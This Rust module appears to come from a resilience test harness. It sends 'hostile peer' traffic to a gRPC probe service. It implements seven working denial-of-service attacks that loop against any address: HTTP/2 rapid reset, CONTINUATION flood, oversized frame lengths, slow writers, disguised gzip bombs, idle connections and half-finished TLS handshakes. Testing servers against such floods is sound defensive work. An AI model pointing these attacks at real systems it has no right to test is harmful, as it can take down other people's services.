//! What a hostile peer sends, over and over, until its process is stopped.

use std::io::Write as _;
use std::time::Duration;

use flate2::Compression;
use flate2::write::GzEncoder;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::timeout;

const HEADERS: u8 = 1;
const DATA: u8 = 0;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Connections of an attack that works.
const BUSY: usize = 8;
/// Connections of an attack that waits.
const IDLE: usize = 1_000;
/// What a bomb unpacks to: twice what a message may have.
const BOMB_BYTES: usize = 16 * 1024 * 1024;

/// A way to do harm.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[expect(missing_docs, reason = "the names are said by `name`")]
pub enum Attack {
    RapidReset,
    ContinuationFlood,
    HugeLengths,
    SlowWriters,
    GzipBombs,
    IdleConnections,
    UnfinishedHandshakes,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 7] = [
        Self::RapidReset,
        Self::ContinuationFlood,
        Self::HugeLengths,
        Self::SlowWriters,
        Self::GzipBombs,
        Self::IdleConnections,
        Self::UnfinishedHandshakes,
    ];

    /// What it is called, on a command line too.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid-reset",
            Self::ContinuationFlood => "continuation-flood",
            Self::HugeLengths => "huge-lengths",
            Self::SlowWriters => "slow-writers",
            Self::GzipBombs => "gzip-bombs",
            Self::IdleConnections => "idle-connections",
            Self::UnfinishedHandshakes => "unfinished-tls-handshakes",
        }
    }

    /// The one of that name.
    #[must_use]
    pub fn of(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|attack| attack.name() == name)
    }

    /// Attacks `address` for ever.
    pub async fn go_on(self, address: &str) {
        let count = match self {
            Self::RapidReset | Self::ContinuationFlood | Self::HugeLengths | Self::GzipBombs => {
                BUSY
            }
            Self::SlowWriters | Self::IdleConnections | Self::UnfinishedHandshakes => IDLE,
        };
        let bomb: &'static [u8] = match self {
            Self::GzipBombs => Box::leak(bomb().into_boxed_slice()),
            _ => &[],
        };
        for number in 0..count {
            let address = address.to_owned();
            tokio::spawn(async move {
                loop {
                    // A provider that has closed is connected to at once; one that refuses, a little later.
                    if self.once(&address, number, bomb).await.is_err() {
                        tokio::time::sleep(Duration::from_millis(1)).await;
                    }
                }
            });
        }
        std::future::pending().await
    }

    /// One connection, until it ends.
    async fn once(self, address: &str, number: usize, bomb: &[u8]) -> std::io::Result<()> {
        let mut stream = TcpStream::connect(address).await?;
        match self {
            Self::RapidReset => flood(&mut stream, &resets()).await,
            Self::ContinuationFlood => {
                let mut begun = hello();
                begun.extend(frame(HEADERS, 0, 1, &block(&[])));
                stream.write_all(&begun).await?;
                flood(&mut stream, &frame(CONTINUATION, 0, 1, &fields())).await
            }
            Self::HugeLengths => {
                stream.write_all(&huge(number)).await?;
                until_closed(&mut stream, Duration::from_millis(100)).await
            }
            Self::SlowWriters => {
                // Half of each protocol's first frame, a byte at a time.
                let bytes = if number.is_multiple_of(2) {
                    [hello(), frame(HEADERS, END_HEADERS, 1, &block(&[]))].concat()
                } else {
                    [&[0xDA, 0xBB, 0xC2, 0][..], &[0; 11]].concat()
                };
                for byte in bytes {
                    stream.write_all(&[byte]).await?;
                    tokio::time::sleep(Duration::from_millis(200)).await;
                }
                Ok(())
            }
            Self::GzipBombs => throw(&mut stream, bomb).await,
            Self::IdleConnections => until_closed(&mut stream, Duration::from_secs(3600)).await,
            Self::UnfinishedHandshakes => {
                // A record that promises a ClientHello.
                stream.write_all(&[0x16, 3, 1, 2, 0, 1, 0, 1, 252]).await?;
                until_closed(&mut stream, Duration::from_secs(3600)).await
            }
        }
    }
}

/// Writes the same until the provider closes; its answers are not read.
async fn flood(stream: &mut TcpStream, bytes: &[u8]) -> std::io::Result<()> {
    loop {
        stream.write_all(bytes).await?;
    }
}

async fn until_closed(stream: &mut TcpStream, patience: Duration) -> std::io::Result<()> {
    let mut seen = [0; 1024];
    let closed = async {
        while stream.read(&mut seen).await? > 0 {}
        Ok(())
    };
    timeout(patience, closed).await.unwrap_or(Ok(()))
}

/// Calls whose message is a bomb, one after the other.
async fn throw(stream: &mut TcpStream, bomb: &[u8]) -> std::io::Result<()> {
    stream.write_all(&hello()).await?;
    let (mut received, mut number) = (Vec::new(), 1);
    loop {
        let mut call = frame(
            HEADERS,
            END_HEADERS,
            number,
            &block(&[("grpc-encoding", "gzip")]),
        );
        let last = bomb.chunks(16_384).count();
        for (index, piece) in bomb.chunks(16_384).enumerate() {
            let end = if index + 1 == last { END_STREAM } else { 0 };
            call.extend(frame(DATA, end, number, piece));
        }
        stream.write_all(&call).await?;
        // Its answer, of whatever kind, is a frame that ends the stream.
        while !ended(&mut received, number) {
            if stream.read_buf(&mut received).await? == 0 {
                return Ok(());
            }
        }
        number += 2;
    }
}

/// Takes whole frames away; whether one of them ended the stream.
fn ended(received: &mut Vec<u8>, stream: u32) -> bool {
    while let Some(&[a, b, c, kind, flags, s1, s2, s3, s4]) = received.first_chunk::<9>() {
        let len = usize::from(a) << 16 | usize::from(b) << 8 | usize::from(c);
        if received.len() < 9 + len {
            return false;
        }
        received.drain(..9 + len);
        let of = u32::from_be_bytes([s1, s2, s3, s4]);
        let over = kind == RST_STREAM || (kind <= HEADERS && flags & END_STREAM != 0);
        if of == stream && over {
            return true;
        }
    }
    false
}

fn hello() -> Vec<u8> {
    let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    hello.extend(frame(SETTINGS, 0, 0, &[]));
    hello
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len())
        .unwrap_or(u32::MAX)
        .to_be_bytes();
    let mut frame = len[1..].to_vec();
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// Headers of a call of the probe, in HPACK without its tables.
fn block(more: &[(&str, &str)]) -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    let own = [
        (":path", "/com.autoparts.probe.ProbeService/echo"),
        (":authority", "peer"),
        ("content-type", "application/grpc+proto"),
    ];
    for (name, value) in own.iter().chain(more) {
        block.push(0);
        for text in [name, value] {
            // All of them are short.
            block.push(u8::try_from(text.len()).unwrap_or(0));
            block.extend_from_slice(text.as_bytes());
        }
    }
    block
}

/// An opening, and a thousand calls that are given up at once.
fn resets() -> Vec<u8> {
    let block = block(&[]);
    let calls = (0..1_000_u32).flat_map(|number| {
        let stream = number * 2 + 1;
        let call = frame(HEADERS, END_HEADERS, stream, &block);
        [call, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    });
    hello().into_iter().chain(calls).collect()
}

/// Header fields without end.
fn fields() -> Vec<u8> {
    (0..500)
        .flat_map(|number| {
            let name = format!("h{number:03}");
            [&[0, 4][..], name.as_bytes(), &[1, b'v']].concat()
        })
        .collect()
}

/// A length that nobody means, in each place that has one.
fn huge(number: usize) -> Vec<u8> {
    match number % 3 {
        0 => [
            &[0xDA, 0xBB, 0xC2, 0][..],
            &[0; 8],
            &[0x7F, 0xFF, 0xFF, 0xFF],
        ]
        .concat(),
        1 => [hello(), vec![0xFF, 0xFF, 0xFF, DATA, 0, 0, 0, 0, 1]].concat(),
        _ => [
            hello(),
            frame(HEADERS, END_HEADERS, 1, &block(&[])),
            frame(DATA, 0, 1, &[0, 0xFF, 0xFF, 0xFF, 0xFF]),
        ]
        .concat(),
    }
}

/// A message of gRPC whose few bytes unpack to very many.
fn bomb() -> Vec<u8> {
    let mut packed = GzEncoder::new(Vec::new(), Compression::best());
    let zeros = vec![0; 64 * 1024];
    // Into memory: this does not fail.
    for _ in 0..BOMB_BYTES / zeros.len() {
        let _ = packed.write_all(&zeros);
    }
    let mut packed = packed.finish().unwrap_or_default();
    // It says of itself that it is empty: only who unpacks it knows.
    let end = packed.len().saturating_sub(4);
    packed[end..].fill(0);
    let len = u32::try_from(packed.len()).unwrap_or(u32::MAX);
    [&[1][..], &len.to_be_bytes(), &packed].concat()
}
